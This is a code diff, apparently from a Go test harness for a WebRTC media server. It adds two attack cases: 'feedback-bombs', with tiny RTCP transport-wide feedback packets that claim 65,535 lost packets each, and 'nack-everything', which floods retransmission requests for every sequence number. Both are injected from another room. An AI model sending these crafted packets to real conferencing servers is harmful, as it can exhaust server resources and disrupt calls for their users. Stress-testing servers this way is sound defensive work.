@@ -45,6 +45,33 @@ func media() []Attack {
 					})
 				})
 			}},
+		{"feedback-bombs", "feedback of 40 bytes that claims 65,535 packets each, fifty in a compound, " +
+			"1 Mbit/s, from another room",
+			func(ctx context.Context, t *Target, tally *Tally) error {
+				return elsewhere(ctx, t, func(t *Target) error {
+					return intrude(ctx, t, func(p *participant.Participant, _ *tap) {
+						compound := feedbackBombs(p.Receives()[0])
+						// 50 of 40 bytes are 16 kbit
+						steadily(ctx, t.Length, 1_000_000/16_000, 1, func(int) {
+							tally.Try()
+							_ = p.SendRTCP(compound...)
+						})
+					})
+				})
+			}},
+		{"nack-everything", "negative acknowledgements of all 65,536 numbers, from another room",
+			func(ctx context.Context, t *Target, tally *Tally) error {
+				return elsewhere(ctx, t, func(t *Target) error {
+					return intrude(ctx, t, func(p *participant.Participant, _ *tap) {
+						ssrcs := p.Receives()
+						next := uint16(0)
+						steadily(ctx, t.Length, 1000, 1, func(int) {
+							tally.Try()
+							_ = p.SendRTCP(nackFrom(ssrcs[rand.IntN(len(ssrcs))], &next))
+						})
+					})
+				})
+			}},
 		{"pli", "requests for keyframes", func(ctx context.Context, t *Target, tally *Tally) error {
 			return intrude(ctx, t, func(p *participant.Participant, _ *tap) {
 				ssrcs := p.Receives()
@@ -254,4 +281,34 @@ func storm(p *participant.Participant, wire *tap, ssrcs []uint32) {
 		noise[0], noise[1] = 0x9f, byte(200+rand.IntN(8))
 		wire.send(noise)
 	}
+}
+
+// feedbackBombs is a compound of fifty feedback packets, each of nine runs of 8,191 packets that
+// did not arrive.
+func feedbackBombs(ssrc uint32) []rtcp.Packet {
+	const runs, longest, bombs = 9, 8191, 50
+	bomb := &rtcp.TransportLayerCC{MediaSSRC: ssrc, PacketStatusCount: 65535,
+		Header: rtcp.Header{Count: rtcp.FormatTCC, Type: rtcp.TypeTransportSpecificFeedback,
+			Length: 9}} // in words of four bytes, less one
+	for range runs + 1 { // the tenth fills the last word
+		bomb.PacketChunks = append(bomb.PacketChunks, &rtcp.RunLengthChunk{
+			Type:               rtcp.TypeTCCRunLengthChunk,
+			PacketStatusSymbol: rtcp.TypeTCCPacketNotReceived, RunLength: longest})
+	}
+	var compound []rtcp.Packet
+	for range bombs {
+		compound = append(compound, bomb)
+	}
+	return compound
+}
+
+// nackFrom asks for the next thousand numbers.
+func nackFrom(ssrc uint32, next *uint16) *rtcp.TransportLayerNack {
+	const pairs, numbers = 60, 17
+	nack := &rtcp.TransportLayerNack{MediaSSRC: ssrc}
+	for range pairs {
+		nack.Nacks = append(nack.Nacks, rtcp.NackPair{PacketID: *next, LostPackets: 0xffff})
+		*next += numbers
+	}
+	return nack
 }
